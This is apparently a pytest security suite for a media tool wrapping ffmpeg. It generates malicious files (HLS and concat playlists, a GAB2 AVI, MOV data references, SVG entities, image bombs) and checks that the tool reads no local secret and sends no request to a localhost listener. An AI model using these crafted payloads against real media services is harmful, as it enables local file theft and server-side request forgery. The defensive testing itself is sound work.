"""Files made to have a media program open other files, ask other machines, or swallow the machine.

Each attack is one that worked somewhere (the playlists of CVE-2016-1897 and after, data references of MOV, …). Two
walls are tried apart: what Matinee asks of ffmpeg, and, with all of that left away, the cell around it.
"""

import http.server
import struct
import threading
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from matinee.adapters.ffmpeg.confinement import Cell, missing
from matinee.adapters.ffmpeg.process import Limits, run
from matinee.errors import ErrorCode, MatineeError
from tests.media.tools import ENCODER, FFMPEG, FFPROBE, make

SECRET = "the secret that no film may tell"


class Listener:
    """A server on this machine that remembers what it was asked for."""

    def __init__(self) -> None:
        asked: list[str] = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                asked.append(self.path)
                self.send_response(200)
                self.end_headers()

            def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - the base class's name
                """Nothing."""

        self.asked = asked
        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}/leak"


@pytest.fixture(scope="module")
def listener() -> Iterator[Listener]:
    """Whoever asks it has made a request."""
    made = Listener()
    thread = threading.Thread(target=made.server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
    thread.start()
    yield made
    made.server.shutdown()
    made.server.server_close()
    thread.join()


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    """A file of the machine that an attacker knows the name of, and that ffmpeg could decode."""
    hidden = tmp_path / "elsewhere" / "secret.srt"
    hidden.parent.mkdir()
    hidden.write_text(f"1\n00:00:00,000 --> 00:00:09,000\n{SECRET}\n")
    return hidden


def playlist(*addresses: str, head: str = "") -> bytes:
    """An HLS playlist of these."""
    lines = "".join(f"#EXTINF:10,\n{address}\n" for address in addresses)
    return f"{head}#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXT-X-TARGETDURATION:10\n{lines}#EXT-X-ENDLIST\n".encode()


def avi_of_a_playlist(text: bytes) -> bytes:
    """The AVI of 2017 (HackerOne 226756): its subtitle stream, "GAB2", holds a playlist."""
    gab2 = b"GAB2\x00\x02\x00" + struct.pack("<I", 0) + b"\x04\x00" + struct.pack("<I", len(text)) + text
    header = b"strh" + struct.pack("<I", 56) + b"txts" + bytes(52) + b"strf" + struct.pack("<I", 0)
    lists = b"LIST" + struct.pack("<I", len(header) + 4) + b"strl" + header
    main = b"avih" + struct.pack("<I", 56) + bytes(24) + struct.pack("<I", 1) + bytes(28)
    heads = b"LIST" + struct.pack("<I", len(main) + len(lists) + 4) + b"hdrl" + main + lists
    chunk = b"00tx" + struct.pack("<I", len(gab2)) + gab2
    body = b"AVI " + heads + b"LIST" + struct.pack("<I", len(chunk) + 4) + b"movi" + chunk
    return b"RIFF" + struct.pack("<I", len(body)) + body


def mov_of_references(film: Path, path: Path, url: str) -> bytes:
    """A MOV whose data lies, by its own word, in another file: `dref` with an alias, an address and a name."""
    data = film.read_bytes()
    plain = struct.pack(">I4sI", 12, b"url ", 1)
    assert plain in data
    named = str(path).encode()
    # QTFF, "Data reference atoms": volume and folder, then the absolute path as type 2 and the directory as type 0.
    alias = bytes(6) + struct.pack(">H", 150) + bytes(142) + struct.pack(">hH", 2, len(named)) + named
    alias += b"\0" * (len(named) % 2) + struct.pack(">hH", -1, 0)
    outside = b"".join(
        struct.pack(">I4sI", 12 + len(body), kind, 0) + body
        for kind, body in ((b"alis", alias), (b"url ", url.encode() + b"\0"))
    )
    return data.replace(plain, outside)


def refusal_of(deed: Callable[[], object]) -> MatineeError | None:
    """What it was refused with, if it was."""
    try:
        deed()
    except MatineeError as refused:
        return refused
    return None


Attack = Callable[[Path, str], bytes]

TEXTS: dict[str, Attack] = {
    "hls of a file": lambda path, _: playlist(f"file://{path}"),
    "hls of an address": lambda _, url: playlist(url),
    "hls that adds the file to the address": lambda path, url: playlist(f"concat:{url}|file:{path}"),
    "hls of a slice of the file": lambda path, _: playlist(f"subfile,,start,0,end,9,,:{path}"),
    "hls behind a blank line": lambda path, _: playlist(f"file://{path}", head="\n \n"),
    "hls behind a mark of byte order": lambda path, _: playlist(f"file://{path}", head="\ufeff"),
    "hls with a key elsewhere": lambda _, url: playlist(
        "a.ts", head=f'#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="{url}",IV=0x0\n'
    ),
    "hls with a map elsewhere": lambda path, _: playlist("a.mp4", head=f'#EXTM3U\n#EXT-X-MAP:URI="file://{path}"\n'),
    "hls in the subtitles of an avi": lambda path, url: avi_of_a_playlist(playlist(f"concat:{url}|file:{path}")),
    "a concat script": lambda path, _: f"ffconcat version 1.0\nfile '{path}'\n".encode(),
    "a concat script without its first line": lambda path, _: f"file '{path}'\n".encode(),
    "dash": lambda _, url: (
        '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" mediaPresentationDuration="PT9S">'
        f'<Period><AdaptationSet><Representation id="1" mimeType="video/mp4" bandwidth="1"><BaseURL>{url}</BaseURL>'
        "</Representation></AdaptationSet></Period></MPD>"
    ).encode(),
    "imf": lambda path, _: (
        '<?xml version="1.0"?><CompositionPlaylist xmlns="http://www.smpte-ra.org/schemas/2067-3/2016">'
        f"<Id>urn:uuid:0</Id><Path>{path}</Path></CompositionPlaylist>"
    ).encode(),
    "smil": lambda _, url: f'<smil><body><video src="{url}"/></body></smil>'.encode(),
    "sdp": lambda _path, _url: (
        b"v=0\r\no=- 0 0 IN IP4 127.0.0.1\r\ns=x\r\nc=IN IP4 127.0.0.1\r\nm=video 5004 RTP/AVP 96\r\n"
    ),
    "svg with pictures elsewhere": lambda path, url: (
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
        f'<image xlink:href="{url}"/>'
        f'<image xlink:href="file://{path}"/></svg>'
    ).encode(),
    "svg with an entity": lambda path, _: (
        f'<!DOCTYPE svg [<!ENTITY x SYSTEM "file://{path}">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>'
    ).encode(),
    "subtitles with a style sheet elsewhere": lambda _, url: (
        f"WEBVTT\n\nSTYLE\n::cue {{ background: url({url}) }}\n".encode()
    ),
    "subtitles of a film elsewhere": lambda path, _: f"[Script Info]\nVideo File: {path}\n[Events]\n".encode(),
    "microdvd in a picture": lambda path, _: f"{{1}}{{1}}25\n{{1}}{{99}}{{f:{path}}}x\n".encode(),
    "a shortcut": lambda _, url: f"[InternetShortcut]\nURL={url}\n".encode(),
    "asx": lambda _, url: f'<asx version="3.0"><entry><ref href="{url}"/></entry></asx>'.encode(),
    "pls": lambda _, url: f"[playlist]\nNumberOfEntries=1\nFile1={url}\n".encode(),
    "rtsp by redirect": lambda _, url: f"RTSPtext\n{url}\n".encode(),
    "avisynth": lambda path, _: f'DirectShowSource("{path}")\n'.encode(),
}
SUFFIXES = ("mp4", "avi", "m3u8", "svg", "srt")


@pytest.mark.parametrize("name", TEXTS)
def test_a_file_of_text_opens_nothing_whatever_it_is_called(
    tmp_path: Path, secret: Path, listener: Listener, name: str
) -> None:
    for suffix in SUFFIXES:
        film = tmp_path / f"film.{suffix}"
        film.write_bytes(TEXTS[name](secret, listener.url))
        with pytest.raises(MatineeError) as refused:
            ENCODER.probe(film)
        assert refused.value.kind.status == 422
        assert SECRET not in refused.value.detail
    assert listener.asked == []


@pytest.mark.skipif(bool(missing()), reason="this kernel has no cell")
@pytest.mark.parametrize("name", TEXTS)
def test_an_ffmpeg_that_may_open_everything_cannot_from_its_cell(
    tmp_path: Path, secret: Path, listener: Listener, name: str
) -> None:
    film, out = tmp_path / "film.m3u8", tmp_path / "out"
    out.mkdir()
    film.write_bytes(TEXTS[name](secret, listener.url))
    careless = ["-protocol_whitelist", "file,http,tcp,udp,concat,subfile,crypto,data", "-allowed_extensions", "ALL"]
    careless += ["-extension_picky", "0"]
    for reader in ("hls", "concat", "dash"):
        more = careless if reader == "hls" else ["-safe", "0"] if reader == "concat" else []
        command = [FFMPEG, "-nostdin", "-y", "-f", reader, *more, "-i", str(film), str(out / "all.srt")]
        limits = Limits(time_limit_seconds=20, stall_seconds=20, cell=Cell(reads=(film,), writes=(out,)))
        run(command, limits)
    assert listener.asked == []
    assert all(SECRET not in made.read_text() for made in out.iterdir())


def test_without_its_cell_and_our_arguments_the_same_ffmpeg_does_all_of_it(
    tmp_path: Path, secret: Path, listener: Listener
) -> None:
    film, told = tmp_path / "film.m3u8", tmp_path / "all.srt"
    film.write_bytes(TEXTS["a concat script"](secret, listener.url))
    limits = Limits(time_limit_seconds=20, stall_seconds=20)
    run([FFMPEG, "-nostdin", "-y", "-f", "concat", "-safe", "0", "-i", str(film), str(told)], limits)
    assert SECRET in told.read_text()
    film.write_bytes(TEXTS["hls of an address"](secret, listener.url))
    run([FFPROBE, "-protocol_whitelist", "file,http,tcp", "-extension_picky", "0", str(film)], limits)
    assert listener.asked == ["/leak"]
    listener.asked.clear()


@pytest.fixture(scope="module")
def plain(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A second of film, as QuickTime."""
    flags = ("-f", "lavfi", "-i", "testsrc2=s=64x64:r=5:d=1", "-c:v", "libx264", "-preset", "ultrafast")
    return make(tmp_path_factory.mktemp("plain") / "plain.mov", *flags)


def test_a_mov_whose_data_lies_elsewhere_gets_none_of_it(
    tmp_path: Path, plain: Path, secret: Path, listener: Listener
) -> None:
    film = tmp_path / "film.mov"
    film.write_bytes(mov_of_references(plain, secret, listener.url))
    said = refusal_of(lambda: ENCODER.poster(film, ENCODER.probe(film), tmp_path / "out"))
    assert said is None or SECRET not in said.detail
    assert listener.asked == []


def test_what_a_matroska_carries_along_is_left_there(tmp_path: Path, plain: Path, secret: Path) -> None:
    attached = (
        "-attach",
        str(secret),
        "-metadata:s:t",
        "mimetype=text/plain",
        "-metadata:s:t",
        "filename=../../escaped",
    )
    film = make(tmp_path / "film.mkv", "-i", str(plain), "-c", "copy", *attached)
    probe = ENCODER.probe(film)
    ENCODER.poster(film, probe, tmp_path / "out")
    assert sorted(path.name for path in tmp_path.rglob("*") if path.is_file() and path != secret) == [
        "film.mkv",
        "poster.jpg",
    ]


def swapped(film: Path, box: bytes, at: int, packed: bytes) -> bytes:
    """The film with some bytes of every box of a kind replaced, counted from the box's name on."""
    data, place = bytearray(film.read_bytes()), -1
    while (place := data.find(box, place + 1)) >= 0:
        data[place + at : place + at + len(packed)] = packed
    return bytes(data)


def gif(width: int, height: int) -> bytes:
    """A GIF of one picture, of a few bytes."""
    size = struct.pack("<HH", width, height)
    return b"GIF89a" + size + b"\x80\0\0" + bytes(6) + b"," + bytes(4) + size + b"\0\x02\x02L\x01\0;"


def y4m(width: int, height: int) -> bytes:
    """Raw video that promises pictures of a size, with none behind it."""
    return f"YUV4MPEG2 W{width} H{height} F25:1 Ip C420\nFRAME\n".encode() + bytes(4096)


def squeezed(width: int, height: int) -> bytes:
    """A zlib-packed picture in an AVI: a thousand bytes that unpack to any number."""
    packed = zlib.compress(bytes(10**8), 9)
    form = struct.pack("<IiiHHIIiiII", 40, width, height, 1, 24, int.from_bytes(b"ZLIB", "little"), 0, 0, 0, 0, 0)
    header = b"strh" + struct.pack("<I", 56) + b"vidsZLIB" + bytes(12) + struct.pack("<IIII", 1, 25, 0, 1) + bytes(20)
    header += b"strf" + struct.pack("<I", len(form)) + form
    lists = b"LIST" + struct.pack("<I", len(header) + 4) + b"strl" + header
    main = b"avih" + struct.pack("<I", 56) + bytes(24) + struct.pack("<I", 1) + bytes(28)
    heads = b"LIST" + struct.pack("<I", len(main) + len(lists) + 4) + b"hdrl" + main + lists
    chunk = b"00dc" + struct.pack("<I", len(packed)) + packed + b"\0" * (len(packed) % 2)
    body = b"AVI " + heads + b"LIST" + struct.pack("<I", len(chunk) + 4) + b"movi" + chunk
    return b"RIFF" + struct.pack("<I", len(body)) + body


@pytest.mark.parametrize(
    "bomb",
    [
        pytest.param(lambda plain: swapped(plain, b"avc1", 28, struct.pack(">HH", 65535, 65535)), id="mov"),
        pytest.param(lambda _: gif(65535, 65535), id="gif"),
        pytest.param(lambda _: y4m(100_000, 100_000), id="y4m"),
        pytest.param(lambda _: squeezed(100_000, 100_000), id="zlib"),
    ],
)
def test_a_few_bytes_that_claim_a_picture_of_gigabytes_are_refused_soon(
    tmp_path: Path, plain: Path, bomb: Callable[[Path], bytes]
) -> None:
    film = tmp_path / "film.mov"
    film.write_bytes(bomb(plain))
    refused = refusal_of(lambda: ENCODER.probe(film))
    if refused is None:  # a decoder's own header may say better: then that is what counts
        video = ENCODER.probe(film).video
        assert video is None or video.width * video.height <= 64 * 64
    else:
        assert refused.kind.status == 422


def test_a_film_that_claims_decades_is_refused_in_words(tmp_path: Path, plain: Path) -> None:
    film = tmp_path / "film.mov"
    film.write_bytes(swapped(plain, b"stts", 16, struct.pack(">I", 2**31 - 1)))
    film.write_bytes(swapped(film, b"mdhd", 16, struct.pack(">I", 1)))  # ticks of a second each
    with pytest.raises(MatineeError) as refused:
        ENCODER.probe(film)
    assert refused.value.code is ErrorCode.SOURCE_UNSUPPORTED
    assert "days" in refused.value.detail
